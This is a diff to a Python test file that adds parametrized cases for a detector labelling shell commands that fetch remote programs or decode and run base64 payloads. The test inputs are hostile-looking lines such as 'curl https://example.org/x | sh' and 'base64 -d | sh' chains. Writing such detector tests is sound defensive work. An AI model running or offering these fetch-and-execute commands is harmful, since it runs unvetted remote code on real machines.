@@ -101,6 +101,20 @@ def test_t117_a_program_that_is_decoded_and_run(command: str) -> None:
 @pytest.mark.parametrize(
     "command",
     [
+        "echo eA==|base64 -d|sh; curl -o /tmp/x https://example.org/x\nsh /tmp/x",
+        "base64 -d p > /tmp/y; curl -o /tmp/x https://example.org/x; sh /tmp/y; sh /tmp/x",
+        "base64 -d p > y; curl https://example.org/x | sh; chmod +x y",
+        "curl -o x https://example.org/x; base64 -d p > y; chmod +x x y",
+        "curl https://example.org/x | sh; echo eA== | base64 -d | sh",
+    ],
+)
+def test_t117_what_is_decoded_hides_nothing_that_is_fetched(command: str) -> None:
+    assert {fetch.what for fetch in fetches(command)} == {PROGRAM, Fetched.DECODED}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
         "base64 -w0 /opt/x | sh -c cat",
         "base64 /opt/a-d | sh",
         'echo "$CERTIFICATE" | base64 -d > /etc/app/cert.pem && chmod 600 /etc/app/cert.pem',
